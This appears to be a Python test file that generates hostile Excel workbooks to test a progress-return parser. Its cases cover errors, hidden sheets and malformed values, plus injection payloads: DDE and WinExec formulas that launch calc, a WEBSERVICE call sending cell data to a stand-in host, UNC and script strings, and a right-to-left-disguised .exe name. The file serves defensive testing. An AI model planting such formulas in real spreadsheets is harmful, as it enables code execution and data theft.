"""Rows 8 to 12 and 18 to 20: what stands in cells. Errors, formulas, hidden things, contradictions, texts made to do harm."""

from __future__ import annotations

import re
from xml.sax.saxutils import escape

from tests.hostile_books.base import OTHER_PROGRESS, PROGRESS, RAG, VALUE, WORKBOOK, Good, case, cases, inline, packed
from tests.hostile_books.markup import ACTIONS, after_rows, more_rows

KEY = '<f>"A-"&amp;1</f><v>A-1</v>'
TOLD = "We met on 3 October and agreed the next steps."  # a harmless answer behind the harmful start


def typed(good: Good, text: str) -> bytes:
    """The return with that text as the progress of A-1, as a program would store it."""
    return good.cell(PROGRESS, *inline(escape(text)))


def formula(good: Good, text: str, saved: str = TOLD) -> bytes:
    """The return with a formula as the progress of A-1, and the result that was saved with it."""
    return good.cell(PROGRESS, f"<f>{escape(text)}</f><v>{escape(saved)}</v>", ' t="str"')


# --- row 8

cases(
    {
        "error-in-an-answer": lambda good: good.cell(RAG, "<v>#REF!</v>", ' t="e"'),
        "error-of-a-formula": lambda good: good.cell(VALUE, "<f>1/0</f><v>#DIV/0!</v>", ' t="e"'),
        "error-of-a-new-excel": lambda good: good.cell(PROGRESS, "<v>#SPILL!</v>", ' t="e"'),
        "error-typed-as-text": lambda good: good.cell(RAG, *inline("#REF!")),
    }
)

# --- row 9

cases(
    {
        "formula-never-calculated": lambda good: good.cell(RAG, '<f>IF(1,"Red","Amber")</f>'),
        "formula-with-an-empty-result": lambda good: good.cell(VALUE, "<f>100+20</f><v></v>"),
    }
)

# --- row 10


@case("formulas-that-share-one")
def _shared(good: Good) -> bytes:
    """The second of two answers repeats the first one's formula by its number alone."""
    first, second = good.refs[PROGRESS], good.refs[OTHER_PROGRESS]
    text = good.text(ACTIONS)
    saved = f"<v>{TOLD}</v>"
    text = good.put(text, PROGRESS, f'<f t="shared" ref="{first}:{second}" si="0">B1&amp;"."</f>{saved}', ' t="str"')
    text = good.put(text, OTHER_PROGRESS, f'<f t="shared" si="0"/>{saved}', ' t="str"')
    return packed({**good.parts, ACTIONS: text.encode()})


@case("formula-over-a-range")
def _array(good: Good) -> bytes:
    """An array formula: only its first cell bears it, and the others look like typed values."""
    first, second = good.refs[PROGRESS], good.refs[OTHER_PROGRESS]
    text = good.text(ACTIONS)
    text = good.put(text, PROGRESS, f'<f t="array" ref="{first}:{second}">X1:X2</f><v>{TOLD}</v>', ' t="str"')
    return packed({**good.parts, ACTIONS: good.put(text, OTHER_PROGRESS, f"<v>{TOLD}</v>", ' t="str"').encode()})


cases(
    {
        "formula-whose-saved-result-lies": lambda good: good.cell(VALUE, "<f>1+1</f><v>1000000</v>"),
        "formula-in-a-row-key": lambda good: good.sheet(
            "Actions", lambda t: re.sub(r'(<c r="A9"[^>]*?)(?: t="\w+")?>.*?</c>', r'\1 t="str">' + KEY + "</c>", t)
        ),
    }
)

# --- row 11


def tab(good: Good, name: str, state: str) -> bytes:
    return good.changed(WORKBOOK, lambda t: re.sub(rf'(<sheet name="{name}"[^>]*) state="visible"', rf'\1 state="{state}"', t))


def column(good: Good, attrs: str) -> bytes:
    """The column of this quarter's progress (N) with other attributes."""
    return good.sheet("Actions", lambda t: re.sub(r'<col [^>]*min="14" max="14" ?/>', f'<col min="14" max="14" {attrs}/>', t))


@case("another-sheet-that-is-hidden")
def _more(good: Good) -> bytes:
    """A sheet of the partner's own, out of sight, with a value on it."""
    text = '<row r="1"><c r="A1" t="str"><v>our own notes</v></c></row>'
    sheet = re.sub(r"<sheetData>.*</sheetData>.*</worksheet>", f"<sheetData>{text}</sheetData></worksheet>", good.text(ACTIONS))
    parts = good.related("worksheet", "worksheets/own.xml", {"xl/worksheets/own.xml": sheet.encode()})
    listed = '<sheet name="Own" sheetId="90" state="veryHidden" r:id="rIdX"/></sheets>'
    return packed({**parts, WORKBOOK: parts[WORKBOOK].replace(b"</sheets>", listed.encode())})


cases(
    {
        "hidden-row": lambda good: good.sheet("Actions", lambda t: t.replace('<row r="9"', '<row hidden="1" r="9"')),
        "row-of-no-height": lambda good: good.sheet(
            "Actions", lambda t: re.sub(r'<row r="9"([^>]*?)(?: ht="[^"]*")?([^>]*)>', r'<row r="9" ht="0"\1\2>', t)
        ),
        "hidden-column": lambda good: column(good, 'width="9" hidden="1"'),
        "column-of-no-width": lambda good: column(good, 'width="0" customWidth="1"'),
        "hidden-sheet": lambda good: tab(good, "Actions", "hidden"),
        "very-hidden-sheet": lambda good: tab(good, "Actions", "veryHidden"),
        "value-under-a-merge": lambda good: good.sheet(
            "Actions", lambda t: after_rows(t, '<mergeCells><mergeCell ref="N9:N10"/></mergeCells>')
        ),
        "keys-under-a-merge": lambda good: good.sheet(
            "Actions", lambda t: after_rows(t, '<mergeCells><mergeCell ref="A9:A10"/></mergeCells>')
        ),
    }
)

# --- row 12


def row_90(cells: str) -> str:
    return f'<row r="90">{cells}</row>'


cases(
    {
        "cell-twice": lambda good: good.sheet(
            "Actions", lambda t: re.sub(r'<c r="M9".*?</c>', r'\g<0><c r="M9" t="str"><v>Green</v></c>', t)
        ),
        "row-twice-with-the-same-cell": lambda good: good.sheet(
            "Actions", lambda t: more_rows(t, '<row r="9"><c r="M9" t="str"><v>Green</v></c></row>')
        ),
        "cell-at-an-impossible-address": lambda good: good.sheet(
            "Actions", lambda t: more_rows(t, row_90('<c r="XFE90"><v>1</v></c>'))
        ),
        "cell-in-another-row": lambda good: good.sheet("Actions", lambda t: more_rows(t, row_90('<c r="A91"><v>1</v></c>'))),
        "row-of-no-number": lambda good: good.sheet("Actions", lambda t: more_rows(t, '<row r="0"><c><v>1</v></c></row>')),
        "merge-at-an-impossible-address": lambda good: good.sheet(
            "Actions", lambda t: after_rows(t, '<mergeCells><mergeCell ref="N9:XFE9"/></mergeCells>')
        ),
        "number-that-is-none": lambda good: good.cell(VALUE, "<v>NaN</v>"),
        "number-without-end": lambda good: good.cell(VALUE, "<v>INF</v>"),
        "number-too-large": lambda good: good.cell(VALUE, "<v>1e999</v>"),
        "number-of-a-million-digits": lambda good: good.cell(VALUE, f"<v>{'9' * 1_000_000}</v>"),
        "number-with-a-comma": lambda good: good.cell(VALUE, "<v>1,5</v>"),
        "number-in-other-digits": lambda good: good.cell(VALUE, "<v>\u0663</v>"),
        "words-in-a-number": lambda good: good.cell(VALUE, "<v>about 120</v>", ' t="n"'),
        "yes-in-a-boolean": lambda good: good.cell(RAG, "<v>Amber</v>", ' t="b"'),
        "day-that-is-none": lambda good: good.cell(VALUE, "<v>2023-02-30</v>", ' t="d"'),
        "type-nobody-knows": lambda good: good.cell(VALUE, "<v>1</v>", ' t="z"'),
        "text-too-long": lambda good: good.cell(PROGRESS, *inline("a" * 32_768)),
        "text-that-is-not-there": lambda good: good.cell(RAG, "<v>99999</v>", ' t="s"'),
        "text-of-a-number-too-long": lambda good: good.cell(RAG, f"<v>{'9' * 5_000}</v>", ' t="s"'),
        "text-of-no-number": lambda good: good.cell(RAG, "<v>-1</v>", ' t="s"'),
        "text-of-the-longest-length": lambda good: good.cell(PROGRESS, *inline("longest word " * 2_520)),
    }
)

# --- row 18

cases(
    {
        "formula-that-asks-the-web": lambda good: formula(good, 'WEBSERVICE("https://canary.example/?"&A9)'),
        "formula-that-links": lambda good: formula(good, f'HYPERLINK("https://canary.example/x","{TOLD}")'),
        "formula-of-real-time-data": lambda good: formula(good, 'RTD("canary.server",,"x")'),
        "formula-of-dde": lambda good: formula(good, "cmd|'/c calc'!A1"),
        "formula-of-a-picture": lambda good: formula(good, '_xlfn.IMAGE("https://canary.example/x.png")'),
        "formula-of-another-workbook": lambda good: formula(good, r"'\\canary.example\share\[x.xlsx]Sheet1'!A1"),
        "formula-that-calls-a-library": lambda good: formula(good, 'CALL("kernel32","WinExec","JCJ","calc",1)'),
        "formula-with-markup": lambda good: formula(good, '"<script>alert(1)</script>"&"\u202e"&"_x001B_[31m"'),
    }
)

# --- row 19

cases(
    {
        "text-that-begins-with-equals": lambda good: typed(good, f"=cmd|'/c calc'!A1 {TOLD}"),
        "text-that-begins-with-plus": lambda good: typed(good, f"+1+1 is the new number. {TOLD}"),
        "text-that-begins-with-a-dash": lambda good: typed(good, f"-{TOLD}\n-Then we wrote it down."),
        "text-that-begins-with-at": lambda good: typed(good, f"@SUM(1+1)*cmd {TOLD}"),
        "text-that-begins-with-a-tab": lambda good: typed(good, f"\t=1+1 {TOLD}"),
        "text-that-begins-with-a-return": lambda good: typed(good, f"_x000D_=1+1 {TOLD}"),
        "text-in-braces": lambda good: typed(good, f"{{=1+1}} {TOLD}"),
        "text-that-is-an-address": lambda good: typed(good, r"file:///\\canary.example\share javascript:alert(1) and more."),
        "text-that-is-markup": lambda good: typed(good, f"<script>alert(1)</script><img src=x onerror=alert(1)> {TOLD}"),
        "text-that-is-a-template": lambda good: typed(good, f"{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} {TOLD}"),
    }
)

# --- row 20

cases(
    {
        "bell-as-an-escape": lambda good: typed(good, f"_x0007__x001B_[31m{TOLD}"),
        "escape-of-an-escape": lambda good: typed(good, f"_x005F_x0007_ {TOLD}"),
        "bell-as-a-reference": lambda good: good.cell(PROGRESS, *inline(f"&#7;{TOLD}")),
        "null-as-an-escape": lambda good: typed(good, f"_x0000_{TOLD}"),
        "half-a-character-as-an-escape": lambda good: typed(good, f"_xD83D_ {TOLD}"),
        "character-in-two-escapes": lambda good: typed(good, f"_xD83D__xDE00_ {TOLD}"),
        "half-a-character-as-a-reference": lambda good: good.cell(PROGRESS, *inline(f"&#xD83D;{TOLD}")),
        "half-a-character-in-bytes": lambda good: packed(
            {**good.parts, ACTIONS: good.cell_bytes(PROGRESS, b"<is><t>\xed\xa0\xbd</t></is>", ' t="inlineStr"')}
        ),
        "code-point-that-is-no-character": lambda good: good.cell(PROGRESS, *inline(f"\ufffe{TOLD}")),
        "direction-turned-about": lambda good: typed(good, f"\u202efdp.exe\u202c \u2066{TOLD}\u2069"),
        "letters-of-no-width": lambda good: typed(
            good, "We\u200b met\u200d\ufeff on 3 October\u00ad and\u2060 agreed the next steps."
        ),
        "letters-of-a-tag": lambda good: typed(good, f"{TOLD}\U000e0041\U000e0042\U000e007f"),
        "choice-in-wide-letters-and-spaces": lambda good: good.cell(RAG, *inline("\u00a0\uff21mber\u200b ")),
        "accents-composed": lambda good: typed(good, f"Caf\u00e9 \u00c5ngstr\u00f6m. {TOLD}"),
        "accents-apart": lambda good: typed(good, f"Cafe\u0301 A\u030angstro\u0308m. {TOLD}"),
        "word-of-5000-letters": lambda good: typed(good, f"{'x' * 5_000} {TOLD}"),
        "accents-piled-up": lambda good: typed(good, "Z" + "\u0335\u0322\u0489" * 500 + f" {TOLD}"),
        "emoji": lambda good: typed(good, f"\U0001f600\U0001f3f4 {TOLD}"),
        "right-to-left": lambda good: typed(
            good, "\u05d4\u05ea\u05e7\u05d3\u05de\u05e0\u05d5 \u0645\u0631\u062d\u0628\u0627 this quarter."
        ),
        "line-ends-of-all-kinds": lambda good: typed(good, "We met._x000D_\n_x000B_Then\u2028we\u0085agreed."),
    }
)
